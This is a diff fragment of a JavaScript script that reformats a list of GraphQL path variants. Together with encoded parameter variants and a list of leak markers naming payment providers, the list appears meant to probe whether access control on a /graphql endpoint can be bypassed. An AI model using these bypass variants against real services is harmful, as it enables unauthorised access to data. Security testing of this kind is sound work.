@@ -31,7 +31,20 @@ const QUERY = '{ providers { displayName } }';
 const LEAKS = ['WooshPay', 'Afterpay', '"data":{'];
 const enc = encodeURIComponent;
 
-const PATHS = ['/graphql', '/graphql/', '/graphql?', '/graphql/?', '/GRAPHQL', '//graphql', '/graphql/..', '/./graphql', '/x/../graphql', '/%67raphql', '/graphql%2F', '/graphql;x'];
+const PATHS = [
+  '/graphql',
+  '/graphql/',
+  '/graphql?',
+  '/graphql/?',
+  '/GRAPHQL',
+  '//graphql',
+  '/graphql/..',
+  '/./graphql',
+  '/x/../graphql',
+  '/%67raphql',
+  '/graphql%2F',
+  '/graphql;x',
+];
 const PARAMS = [
   `query=${enc(QUERY)}`,
   `%71uery=${enc(QUERY)}`,
